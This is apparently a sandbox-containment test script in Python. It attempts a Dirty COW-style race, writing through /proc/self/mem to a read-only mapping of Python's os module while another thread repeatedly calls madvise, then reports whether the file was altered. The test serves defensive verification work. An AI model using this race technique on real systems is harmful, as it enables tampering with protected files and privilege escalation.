"""Write to a mapped file that is read-only through /proc/self/mem, which ignores protection, over and over.

expect: says contained
caught: read-only root
"""

import ctypes
import mmap
import os
import threading

path = os.__file__
with open(path, "rb") as file:
    before = file.read(4096)
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
address = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, os.open(path, os.O_RDONLY), 0)
memory = os.open("/proc/self/mem", os.O_RDWR)


def forget():
    for _ in range(2000):
        libc.madvise(ctypes.c_void_p(address), 4096, 4)


thread = threading.Thread(target=forget)
thread.start()
for _ in range(2000):
    os.pwrite(memory, b"planted", address)
thread.join()
with open(path, "rb") as file:
    print("contained" if file.read(4096) == before else "ESCAPED")
